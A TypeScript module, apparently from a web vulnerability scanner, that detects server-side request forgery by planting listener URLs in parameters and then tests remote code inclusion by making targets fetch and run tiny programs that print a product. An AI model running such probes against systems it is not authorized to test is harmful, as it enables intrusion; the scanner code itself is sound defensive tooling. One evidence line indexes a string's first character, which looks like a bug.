import type { Evidence } from "../finding.ts";
import { type Lab, type Point, type Shot, twice } from "../lab.ts";
import type { PointAttack, SiteAttack } from "./attack.ts";

const planted = new WeakMap<Lab, { token: string; point: Point }[]>();

/** Plants an address of our listener; who called is seen at the end, because some call late. */
export const ssrfPlant: PointAttack = {
  id: "ssrf",
  run: async (point, lab) => {
    if (lab.canary === null) return [];
    const token = point.random.word(18);
    await lab.shoot(point, lab.canary.url(token));
    planted.set(lab, [...(planted.get(lab) ?? []), { token, point }]);
    return [];
  },
};

export const ssrf: SiteAttack = {
  id: "ssrf",
  run: async (lab) => {
    const { canary } = lab;
    if (canary === null) return;
    const all = planted.get(lab) ?? [];
    // One moment for all of them.
    await canary.heard("", 300);
    for (const { token, point } of all) {
      if (!(await canary.heard(token, 0))) continue;
      const again = point.random.word(18);
      const shot = await lab.shoot(point, canary.url(again));
      if (shot === null || !(await canary.heard(again, 500))) continue;
      const shown = shot.answer.body.includes(`canary-${again}`);
      lab.report(point, {
        rule: "ssrf",
        technique: shown ? "content" : "call",
        evidence: [
          "our listener was called at an address that only this parameter was given",
          shown ? "called again, and the answer shows what it said" : "and again at another one",
        ],
        replay: shot.request,
      });
      const run = await inclusion(point, lab);
      if (run !== null) lab.report(point, run);
    }
  },
};

/** Programs that print a product, in what languages include by address. */
const programs: readonly { suffix: string; of: (word: string, a: number, b: number) => string }[] =
  [
    { suffix: "/a.py", of: (word, a, b) => `print("${word}"+str(${a}*${b}))` },
    { suffix: "/a.php", of: (word, a, b) => `<?php echo "${word}".(${a}*${b}); ?>` },
    { suffix: "/a.js", of: (word, a, b) => `module.exports="${word}"+(${a}*${b})` },
    { suffix: "/a.rb", of: (word, a, b) => `puts "${word}"+(${a}*${b}).to_s` },
  ];

async function inclusion(point: Point, lab: Lab): Promise<Evidence | null> {
  const { canary } = lab;
  if (canary === null) return null;
  for (const { suffix, of } of programs) {
    const found = await twice<Shot>(async () => {
      const [token, word] = [point.random.word(18), point.random.word(6)];
      const [a, b] = [point.random.between(1_009, 9_973), point.random.between(1_009, 9_973)];
      const shot = await lab.shoot(point, canary.url(token, of(word, a, b), suffix));
      if (shot === null || !shot.answer.body.includes(`${word}${a * b}`)) return null;
      return {
        says: `a program from our listener (${suffix.slice(2)}) was run: it printed a product`,
        shot,
      };
    });
    if (found !== null) {
      return {
        rule: "code-inclusion",
        technique: "remote",
        evidence: [found.says[0], "and another one, of other numbers"],
        replay: found.shot.request,
      };
    }
  }
  return null;
}
